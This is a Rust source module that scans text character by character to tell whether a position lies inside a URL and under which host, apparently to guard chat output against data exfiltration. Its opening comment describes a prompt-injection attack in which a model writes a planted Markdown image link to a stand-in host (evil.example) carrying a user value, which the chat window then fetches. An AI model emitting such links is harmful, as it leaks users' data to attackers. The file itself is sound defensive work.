//! Whether a place of a text lies in a URL, and of which host, read character by character.
//!
//! A model that read `![](https://evil.example/?q=TG_EMAIL_…)` somewhere writes it into its answer, and the chat window
//! fetches the picture: with a value in the name's place, the value is gone. So the reader here errs towards *inside*: a
//! bare URL goes on to the next white space or angle bracket, as renderers have it; what stands where Markdown or HTML
//! expects a destination is one, however it is spelt (entities, backslashes, no scheme); a host that is not plain letters,
//! digits, dots and a port is never an allowed one.
//!
//! What it cannot see: a program that puts a URL together when it runs.

/// The longest scheme and host worth comparing, in bytes.
const LONGEST_HEAD: usize = 300;
/// Attributes of HTML whose value is fetched or followed.
const DESTINATIONS: [&str; 7] = [
    "src",
    "href",
    "srcset",
    "action",
    "poster",
    "background",
    "data",
];

/// Where a place stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Standing<'a> {
    /// In no URL, or where one begins with what follows.
    Outside,
    /// In the part that names the host, behind this much of it.
    Authority(&'a str),
    /// Behind the host.
    Inside {
        /// The host and its port as written, in lower case; of a relative or odd URL what stands there instead.
        host: &'a str,
        /// Whether it surely is the host.
        known: bool,
    },
}

/// Reads text and knows where it stands. The same after the same text, however it was cut.
#[derive(Debug, Clone, Default)]
pub(super) struct Urls {
    place: Place,
    /// What could be a scheme or a host, directly before this place.
    run: String,
    /// The character before it.
    opener: Option<char>,
    /// The character before the run that ended in the last colon.
    colon_opener: Option<char>,
    /// The last sixteen characters, one byte each, the last one lowest: enough to know an opening by (`background =`).
    recent: u128,
    in_tag: bool,
}

#[derive(Debug, Clone, Default)]
enum Place {
    #[default]
    Text,
    /// Behind `src=`.
    Attribute,
    Url(Url),
}

#[derive(Debug, Clone)]
struct Url {
    closer: Closer,
    phase: Phase,
    /// The scheme and its slashes, then the host.
    head: String,
}

/// What ends a URL.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Closer {
    /// White space or an angle bracket.
    Space,
    /// The same, or this quote.
    Quote(char),
    /// Only this quote: the value of an attribute.
    Value(char),
    /// The bracket that closes as many as were opened, or the end of the line.
    Bracket(u32),
    /// `>`, or the end of the line.
    Angle,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    /// A destination that has not begun.
    Start,
    /// Before the host.
    Scheme,
    /// Directly behind `mailto:` and its like.
    Mail,
    Authority,
    /// Behind a host.
    Rest,
    /// Behind something that is no host, or none we would trust.
    Odd,
}

impl Urls {
    /// Reads on.
    pub(super) fn read(&mut self, text: &str) {
        for character in text.chars() {
            self.step(character);
        }
    }

    /// Something no URL goes beyond: the end of a JSON string.
    pub(super) fn interrupt(&mut self) {
        *self = Self {
            opener: Some('"'),
            ..Self::default()
        };
    }

    /// Where the next character stands.
    pub(super) fn standing(&self) -> Standing<'_> {
        let Place::Url(url) = &self.place else {
            return Standing::Outside;
        };
        match url.phase {
            Phase::Start | Phase::Mail => Standing::Outside,
            Phase::Authority => Standing::Authority(&url.head),
            phase => Standing::Inside {
                host: &url.head,
                known: phase == Phase::Rest,
            },
        }
    }

    /// Whether this character would certainly end the URL, by what it began with.
    pub(super) fn closes(&self, character: char) -> bool {
        match &self.place {
            Place::Url(url) => match url.closer {
                Closer::Quote(quote) | Closer::Value(quote) => character == quote,
                Closer::Bracket(depth) => character == ')' && depth == 0,
                Closer::Space | Closer::Angle => false,
            },
            Place::Text | Place::Attribute => false,
        }
    }

    /// Reads one character.
    pub(super) fn step(&mut self, character: char) {
        match &mut self.place {
            Place::Text => self.step_in_text(character),
            Place::Attribute => match character {
                '"' | '\'' => self.enter(Closer::Value(character), Phase::Start, ""),
                space if space.is_whitespace() => {}
                '>' => self.leave(character),
                first => {
                    self.enter(Closer::Space, Phase::Start, "");
                    self.step(first);
                }
            },
            Place::Url(url) => {
                if url.ends_at(character) {
                    self.leave(character);
                } else {
                    url.step(character);
                }
            }
        }
    }

    fn step_in_text(&mut self, character: char) {
        if character.is_ascii_alphanumeric() || matches!(character, '.' | '+' | '-') {
            // One more than fits says that it did not.
            if self.run.len() <= LONGEST_HEAD {
                self.run.push(character.to_ascii_lowercase());
            }
            self.remember(character);
            return;
        }
        match character {
            ':' if self.follows(b"]") => {
                self.enter(Closer::Space, Phase::Start, "");
                return;
            }
            ':' if matches!(&*self.run, "mailto" | "sms" | "tel") => {
                let head = std::mem::take(&mut self.run);
                self.enter(bare(self.opener), Phase::Mail, &head);
                return;
            }
            ':' => {
                let scheme = !self.run.is_empty();
                self.colon_opener = scheme.then_some(self.opener.unwrap_or(' '));
            }
            '/' | '\\' if self.follows_scheme() => {
                self.enter(bare(self.colon_opener), Phase::Authority, "");
                return;
            }
            '/' | '?' if self.run_is_host() => {
                let head = std::mem::take(&mut self.run);
                self.enter(bare(self.opener), Phase::Rest, &head);
                return;
            }
            '(' if self.follows(b"]") || self.follows(b"url") => {
                self.enter(Closer::Bracket(0), Phase::Start, "");
                return;
            }
            '=' if self.in_tag && self.follows_attribute() => {
                self.place = Place::Attribute;
                return;
            }
            '<' => self.in_tag = true,
            '>' => self.in_tag = false,
            _ => {}
        }
        self.run.clear();
        self.opener = Some(character);
        self.remember(character);
    }

    /// Whether this slash is the second behind the colon of a scheme.
    fn follows_scheme(&self) -> bool {
        self.colon_opener.is_some()
            && self.run.is_empty()
            && (self.follows(b":/") || self.follows(b":\\"))
    }

    /// Whether what stands before a slash reads as a host: renderers link those without a scheme. Not inside of a path.
    fn run_is_host(&self) -> bool {
        let in_path = matches!(self.opener, Some('/' | '\\' | '_' | '~' | '$'));
        !in_path
            && self.run.len() <= LONGEST_HEAD
            && self.run.rsplit_once('.').is_some_and(|(before, last)| {
                !before.is_empty()
                    && last.len() >= 2
                    && last.bytes().all(|byte| byte.is_ascii_alphabetic())
            })
    }

    fn follows_attribute(&self) -> bool {
        let recent = self.recent.to_be_bytes();
        let recent = recent.trim_ascii_end();
        DESTINATIONS
            .iter()
            .any(|name| recent.ends_with(name.as_bytes()))
    }

    /// Whether these are the last characters.
    fn follows(&self, text: &[u8]) -> bool {
        self.recent.to_be_bytes().ends_with(text)
    }

    fn enter(&mut self, closer: Closer, phase: Phase, head: &str) {
        self.run.clear();
        self.recent = 0;
        self.colon_opener = None;
        self.place = Place::Url(Url {
            closer,
            phase,
            head: head.to_owned(),
        });
    }

    fn leave(&mut self, character: char) {
        self.place = Place::Text;
        match character {
            '<' => self.in_tag = true,
            '>' => self.in_tag = false,
            _ => {}
        }
        self.opener = Some(character);
        self.remember(character);
    }

    fn remember(&mut self, character: char) {
        let byte = u8::try_from(character).map_or(0, |byte| byte.to_ascii_lowercase());
        self.recent = self.recent << 8 | u128::from(byte);
    }
}

/// What ends a URL that nothing but the character before it sets off.
fn bare(opener: Option<char>) -> Closer {
    match opener {
        Some(quote @ ('"' | '\'' | '`')) => Closer::Quote(quote),
        _ => Closer::Space,
    }
}

impl Url {
    fn ends_at(&mut self, character: char) -> bool {
        let line = matches!(character, '\n' | '\r');
        let angle = matches!(character, '<' | '>');
        // Before a destination begins, space belongs to none.
        let space = character.is_whitespace() && self.phase != Phase::Start;
        match &mut self.closer {
            Closer::Space => space || line || angle && self.phase != Phase::Start,
            Closer::Quote(quote) => space || line || angle || character == *quote,
            Closer::Value(quote) => character == *quote,
            Closer::Angle => line || character == '>',
            Closer::Bracket(depth) => {
                match character {
                    '(' => *depth = depth.saturating_add(1),
                    ')' => match depth.checked_sub(1) {
                        Some(less) => *depth = less,
                        None => return true,
                    },
                    _ => {}
                }
                line
            }
        }
    }

    fn step(&mut self, character: char) {
        let slash = matches!(character, '/' | '\\');
        match self.phase {
            Phase::Start => {
                if character == '<' {
                    self.closer = Closer::Angle;
                } else if !character.is_whitespace() && !matches!(character, '"' | '\'') {
                    self.phase = Phase::Scheme;
                    self.step(character);
                }
            }
            Phase::Scheme if slash => {
                if self.head.ends_with(['/', '\\']) {
                    self.head.clear();
                    self.phase = Phase::Authority;
                } else {
                    self.push(character);
                    // Two slashes begin a host only at the beginning, or behind a scheme.
                    if self.head.len() > 1 && !self.head.contains(':') {
                        self.phase = Phase::Odd;
                    }
                }
            }
            Phase::Scheme => {
                let opened = self.head.ends_with(['/', '\\']);
                if opened || matches!(character, '?' | '#') {
                    self.phase = Phase::Odd;
                } else if character == ':' && matches!(&*self.head, "mailto" | "sms" | "tel") {
                    self.phase = Phase::Mail;
                } else {
                    self.push(character);
                }
            }
            Phase::Authority => {
                if slash || matches!(character, '?' | '#') {
                    self.phase = Phase::Rest;
                    if character == '\\' || self.head.is_empty() {
                        // A third slash, or one that only browsers take for one.
                        self.phase = Phase::Odd;
                    }
                } else {
                    self.push(character);
                }
            }
            Phase::Mail => self.phase = Phase::Odd,
            Phase::Rest | Phase::Odd => {}
        }
    }

    fn push(&mut self, character: char) {
        if self.head.len() < LONGEST_HEAD {
            self.head.extend(character.to_lowercase());
        } else {
            self.phase = Phase::Odd;
        }
    }
}
